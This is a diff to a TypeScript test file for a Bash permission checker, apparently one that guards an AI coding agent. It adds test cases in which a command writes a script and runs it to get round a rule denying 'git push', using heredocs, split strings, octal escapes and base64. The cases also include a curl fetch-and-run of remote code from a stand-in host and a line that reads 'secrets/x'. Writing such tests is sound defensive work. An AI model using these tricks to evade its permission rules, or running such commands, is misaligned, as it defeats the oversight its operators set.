@@ -85,20 +85,62 @@ const typed: Rows = {
   ],
 };
 
-describe.each(Object.entries({ attached, inCode, typed }))('%s', (_, { deny = [], ask = [], allow }) => {
-  const rules = ['deny Bash(git push:*)', 'allow Bash'];
-  test.each(deny)('%s is denied', async (command) => {
-    for (const mode of ['default', 'bypassPermissions'] as const)
-      expect((await bash(command, rules, mode)).behavior).toBe('deny');
-  });
-  test.each(ask)('%s asks', async (command) => {
-    for (const mode of ['default', 'bypassPermissions'] as const)
-      expect((await bash(command, rules, mode)).behavior).toBe('ask');
-  });
-  test.each(allow)('%s does not ask', async (command) => {
-    expect((await bash(command, rules, 'bypassPermissions')).behavior).toBe('allow');
-  });
-});
+/** Scripts that the line writes before it runs them. */
+const written: Rows = {
+  deny: [
+    "printf 'git push' | tee x.sh; bash x.sh",
+    "echo 'git push' > x.sh; sh x.sh",
+    "cat > x.sh <<'E'\ngit push\nE\nbash x.sh",
+    "cat > x.sh <<'E' && bash x.sh\ngit push\nE",
+    `cat > x.py <<'E'\nimport subprocess\nsubprocess.run(["git", "push"])\nE\npython3 x.py`,
+    `cat <<'E' > /tmp/x.py\nimport os\nos.system("git push")\nE\nuv run python /tmp/x.py`,
+    "echo 'git push' > x.sh && chmod +x x.sh && ./x.sh",
+    `printf '#!/usr/bin/env python3\\nimport os\\nos.system("git push")\\n' > x && ./x`,
+    "printf git > x; printf ' push' >> x; . ./x",
+    "printf 'git p%s' ush > x; sh x",
+    '{ echo git push; } > x; sudo bash x',
+    "cd sub && echo 'git push' > ../x.sh && sh ../x.sh",
+    "dd of=x <<< 'git push'; sh x",
+  ],
+  ask: [
+    "cat <<'E' | tee x.sh && bash x.sh\ngit push\nE",
+    "printf 'git p\\165sh' > x; sh x",
+    'base64 -d <<< Z2l0IHB1c2g= > x.sh; sh x.sh',
+    "(echo git; echo push) | tr '\\n' ' ' > x; bash x",
+    'curl -s x.y > x.sh && sh x.sh',
+    "echo 'git push' > x; cp x y; sh y",
+    "echo 'git push' > x; mv x sub; sh sub/x",
+    "echo 'git pus' > x; sed -i s/s/sh/ x; sh x",
+  ],
+  allow: [
+    "cat > x.py <<'E'\nprint(1)\nE\npython3 x.py",
+    "cat > x.sh <<'E'\nnpm test\nE\nbash x.sh",
+    "echo 'git push' > notes.txt; bash x.sh",
+    "echo 'git push' > notes.txt; cp notes.txt docs; node a.js",
+    'node build.js > out.txt; node a.js',
+    'bash x.sh > log.txt; cat log.txt',
+    'bash x.sh 2>&1 | tee log.txt',
+    'gcc a.c -o a && ./a > out.txt',
+  ],
+};
+
+describe.each(Object.entries({ attached, inCode, typed, written }))(
+  '%s',
+  (_, { deny = [], ask = [], allow }) => {
+    const rules = ['deny Bash(git push:*)', 'allow Bash'];
+    test.each(deny)('%s is denied', async (command) => {
+      for (const mode of ['default', 'bypassPermissions'] as const)
+        expect((await bash(command, rules, mode)).behavior).toBe('deny');
+    });
+    test.each(ask)('%s asks', async (command) => {
+      for (const mode of ['default', 'bypassPermissions'] as const)
+        expect((await bash(command, rules, mode)).behavior).toBe('ask');
+    });
+    test.each(allow)('%s does not ask', async (command) => {
+      expect((await bash(command, rules, 'bypassPermissions')).behavior).toBe('allow');
+    });
+  },
+);
 
 test.each([
   "script -qc'cat secrets/x' f",
